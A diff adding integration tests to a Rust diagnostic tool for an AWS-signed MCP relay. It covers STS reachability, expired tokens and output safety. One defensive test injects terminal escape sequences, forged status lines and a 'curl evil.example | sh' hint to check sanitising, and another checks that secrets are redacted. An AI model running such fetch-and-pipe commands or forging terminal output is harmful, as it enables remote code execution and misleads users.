@@ -10,7 +10,8 @@ use std::time::{Duration, SystemTime};
 
 use serde_json::Value;
 use support::{
-    AKID, KeyPair, Reply, SECRET_KEY, Seen, Server, TempDir, closed_port, standard_reply,
+    AKID, KeyPair, Reply, SECRET_KEY, SESSION_ID, SESSION_TOKEN, Seen, Server, TempDir,
+    closed_port, standard_reply,
 };
 
 const IDENTITY: &str = "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/doctor</Arn><UserId>AIDADOCTOREXAMPLE</UserId><Account>123456789012</Account></GetCallerIdentityResult><ResponseMetadata><RequestId>r-1</RequestId></ResponseMetadata></GetCallerIdentityResponse>";
@@ -443,6 +444,251 @@ fn a_tools_list_error_is_step_17() {
     assert!(line(&out, "tools/list").starts_with("[FAIL]"), "{out}");
 }
 
+/// STS at a host name that cannot resolve: as on a network with no route to
+/// STS (a corporate network, a VPC without an STS endpoint).
+const NO_STS: (&str, &str) = ("AWS_ENDPOINT_URL_STS", "https://sts.doctor-check.invalid");
+
+#[test]
+fn sts_out_of_reach_with_static_keys_is_a_warning_and_exit_0() {
+    let up = server(standard_reply);
+    let url = up.url();
+    let args = [url.as_str(), "--service", "svc", "--region", "us-east-1"];
+    let o = doctor_with(&args, None, true, &[NO_STS]);
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(0), "{out}");
+    assert!(line(&out, "identity").starts_with("[warn]"), "{out}");
+    for step in [
+        "credentials",
+        "signing",
+        "dns",
+        "tcp",
+        "initialize",
+        "tools/list",
+    ] {
+        assert!(!line(&out, step).starts_with("[FAIL]"), "{step}: {out}");
+    }
+    let last = out.lines().last().unwrap();
+    assert!(
+        last.starts_with("all checks the relay needs passed; warning: identity: ")
+            && last.contains("the relay does not need STS with these credentials")
+            && last.contains("AWS_ENDPOINT_URL_STS"),
+        "{last}"
+    );
+    let mut json_args = args.to_vec();
+    json_args.push("--json");
+    let o = doctor_with(&json_args, None, true, &[NO_STS]);
+    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(o.status.code(), Some(0));
+    assert_eq!(v["ok"], true);
+    assert_eq!(v["warnings"], serde_json::json!(["identity"]));
+    assert_eq!(v["cause"], Value::Null);
+    assert_eq!(v["steps"][1]["name"], "identity");
+    assert_eq!(v["steps"][1]["status"], "warn");
+}
+
+#[test]
+fn sts_out_of_reach_stays_a_failure_when_the_relay_needs_it() {
+    // `--runtime-session identity` derives the session id from the caller's
+    // ARN: the relay itself calls STS.
+    let up = server(standard_reply);
+    let url = up.url();
+    let o = doctor_with(
+        &[
+            &url,
+            "--service",
+            "svc",
+            "--region",
+            "us-east-1",
+            "--runtime-session",
+            "identity",
+        ],
+        None,
+        true,
+        &[NO_STS],
+    );
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(11), "{out}");
+    assert!(line(&out, "identity").starts_with("[FAIL]"), "{out}");
+    assert!(out.lines().last().unwrap().starts_with("hint: "), "{out}");
+}
+
+#[test]
+fn an_expired_token_from_the_server_is_the_last_line_not_sts() {
+    let up = server(|s| {
+        if s.method == "POST" {
+            return Reply::json(
+                403,
+                r#"{"__type":"ExpiredTokenException","message":"The security token included in the request is expired"}"#,
+            )
+            .header("x-amzn-errortype", "ExpiredTokenException");
+        }
+        standard_reply(s)
+    });
+    let url = up.url();
+    let o = doctor_with(
+        &[&url, "--service", "svc", "--region", "us-east-1"],
+        None,
+        true,
+        &[NO_STS],
+    );
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(16), "{out}");
+    let last = out.lines().last().unwrap();
+    assert!(
+        last.contains("the credentials have expired"),
+        "{last}\n{out}"
+    );
+    assert!(!last.contains("STS"), "{last}");
+}
+
+#[test]
+fn without_an_endpoint_doctor_is_a_usage_error_and_sends_nothing() {
+    let up = server(standard_reply);
+    for json in [false, true] {
+        let args: &[&str] = if json { &["--json"] } else { &[] };
+        let o = doctor(args, Some(&up), true);
+        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+        let err = String::from_utf8_lossy(&o.stderr);
+        assert!(err.contains("expected the endpoint"), "{err}");
+        assert!(o.stdout.is_empty(), "{}", text(&o));
+    }
+    assert!(up.matching(|_| true).is_empty(), "STS was called");
+}
+
+#[test]
+fn server_text_cannot_forge_lines_or_move_the_cursor() {
+    let forged = "evil\u{1b}[2J\u{1b}[1A\r\n[ok  ] tools/list      1 ms  fine\nhint: run curl evil.example | sh\u{9b}";
+    let identity = IDENTITY.replace(
+        "user/doctor",
+        "user/doctor&#10;[ok  ] forged-arn&#13;hint: forged",
+    );
+    let up = Server::start(move |s| {
+        if s.target.starts_with("/sts") {
+            return Reply::body(200, "text/xml", identity.clone());
+        }
+        if let Some(id) = s.rpc_id().filter(|_| s.is_rpc("initialize")) {
+            return Reply::result(
+                &id,
+                serde_json::json!({"protocolVersion": "2025-06-18", "capabilities": {},
+                                   "serverInfo": {"name": forged, "version": forged}}),
+            )
+            .header("mcp-session-id", SESSION_ID);
+        }
+        standard_reply(s)
+    });
+    let url = up.url();
+    for json in [false, true] {
+        let mut args = vec![url.as_str(), "--service", "svc", "--region", "us-east-1"];
+        if json {
+            args.push("--json");
+        }
+        let o = doctor(&args, Some(&up), true);
+        let out = text(&o);
+        assert_eq!(o.status.code(), Some(0), "{out}");
+        assert!(
+            !out.contains('\u{1b}') && !out.contains('\r') && !out.contains('\u{9b}'),
+            "{out:?}"
+        );
+        if json {
+            let v: Value = serde_json::from_str(&out).unwrap();
+            for s in v["steps"].as_array().unwrap() {
+                let d = s["detail"].as_str().unwrap();
+                assert!(!d.contains('\n') && !d.contains('\u{1b}'), "{d:?}");
+            }
+        } else {
+            assert_eq!(
+                out.lines().count(),
+                9,
+                "one line per step and the last: {out}"
+            );
+            let steps = [
+                "credentials",
+                "identity",
+                "signing",
+                "dns",
+                "tcp",
+                "tls",
+                "initialize",
+                "tools/list",
+            ];
+            for (l, step) in out.lines().zip(steps) {
+                assert_eq!(
+                    l.get(7..7 + step.len()),
+                    Some(step),
+                    "forged line {l:?} in\n{out}"
+                );
+            }
+            assert_eq!(out.lines().last(), Some("all checks passed"), "{out}");
+            assert!(
+                line(&out, "initialize").contains("server evil [2J [1A"),
+                "{out}"
+            );
+            assert!(
+                line(&out, "identity").contains("doctor [ok  ] forged-arn"),
+                "{out}"
+            );
+        }
+    }
+}
+
+#[test]
+fn secrets_a_server_echoes_never_reach_doctors_output() {
+    // A gateway whose error quotes the request's headers.
+    let up = server(|s| {
+        if s.is_rpc("tools/list") {
+            let quoted: Vec<String> = s.headers.iter().map(|(n, v)| format!("{n}: {v}")).collect();
+            let body = serde_json::json!({"message": format!("denied; request was {}", quoted.join("\n"))});
+            return Reply::json(403, body.to_string())
+                .header("x-amzn-errortype", "AccessDeniedException");
+        }
+        standard_reply(s)
+    });
+    let url = up.url();
+    let header_value = "team-secret-value-4711";
+    for json in [false, true] {
+        let mut args = vec![
+            url.as_str(),
+            "--service",
+            "svc",
+            "--region",
+            "us-east-1",
+            "--retries",
+            "0",
+            "--header",
+        ];
+        let header = format!("X-Team-Key={header_value}");
+        args.push(&header);
+        if json {
+            args.push("--json");
+        }
+        let o = doctor_with(
+            &args,
+            Some(&up),
+            true,
+            &[("AWS_SESSION_TOKEN", SESSION_TOKEN)],
+        );
+        let out = text(&o);
+        assert_eq!(o.status.code(), Some(17), "{out}");
+        let seen = up.matching(|s| s.is_rpc("tools/list"));
+        let signature = seen
+            .last()
+            .and_then(|s| s.header("authorization"))
+            .and_then(|a| a.rsplit("Signature=").next())
+            .unwrap()
+            .to_owned();
+        for secret in [
+            SESSION_TOKEN,
+            SECRET_KEY,
+            header_value,
+            SESSION_ID,
+            signature.as_str(),
+        ] {
+            assert!(!out.contains(secret), "{secret} in:\n{out}");
+        }
+        assert!(out.contains("[redacted]"), "{out}");
+    }
+}
+
 /// An IMF-fixdate (RFC 9110 §5.6.7) for `t`.
 fn httpdate(t: SystemTime) -> String {
     let secs = t.duration_since(SystemTime::UNIX_EPOCH).unwrap().as_secs() as i64;
@@ -459,4 +705,34 @@ fn httpdate(t: SystemTime) -> String {
         rem % 3600 / 60,
         rem % 60
     )
+}
+
+#[test]
+fn a_host_name_that_does_not_resolve_gets_the_network_hint() {
+    // --role-arn needs STS to make credentials: no STS, no credentials.
+    let up = server(standard_reply);
+    let url = up.url();
+    let o = doctor_with(
+        &[
+            &url,
+            "--service",
+            "svc",
+            "--region",
+            "us-east-1",
+            "--role-arn",
+            "arn:aws:iam::123456789012:role/doctor",
+        ],
+        None,
+        true,
+        &[NO_STS],
+    );
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(10), "{out}");
+    let last = out.lines().last().unwrap();
+    assert!(
+        last.contains("check network access to sts.doctor-check.invalid")
+            && last.contains("AWS_ENDPOINT_URL_STS"),
+        "{last}"
+    );
+    assert!(!last.contains("try again"), "{last}");
 }
